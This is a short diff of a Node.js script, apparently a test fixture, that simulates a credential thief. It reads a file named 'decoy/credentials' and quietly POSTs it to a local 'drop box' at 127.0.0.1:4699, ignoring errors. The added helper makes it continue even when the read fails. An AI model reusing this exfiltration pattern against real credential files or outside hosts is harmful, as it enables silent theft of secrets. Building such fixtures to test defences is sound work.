@@ -8,9 +8,18 @@ const http = require('node:http');
 const path = require('node:path');
 
 const target = 'http://127.0.0.1:4699/collect';
-const stolen = fs.readFileSync(path.join(__dirname, '..', 'decoy', 'credentials'), 'utf8');
+const stolen = read(path.join(__dirname, '..', 'decoy', 'credentials'));
 const request = http.request(target, { method: 'POST', headers: { connection: 'close' } });
 // A thief makes no noise when the drop box is closed.
 request.on('error', () => undefined);
 request.on('response', (response) => response.resume());
 request.end(stolen);
+
+/** A follower may read nothing by itself; a thief would try to go on all the same. */
+function read(file) {
+  try {
+    return fs.readFileSync(file, 'utf8');
+  } catch (error) {
+    return `nothing, for the read failed: ${error.code}`;
+  }
+}
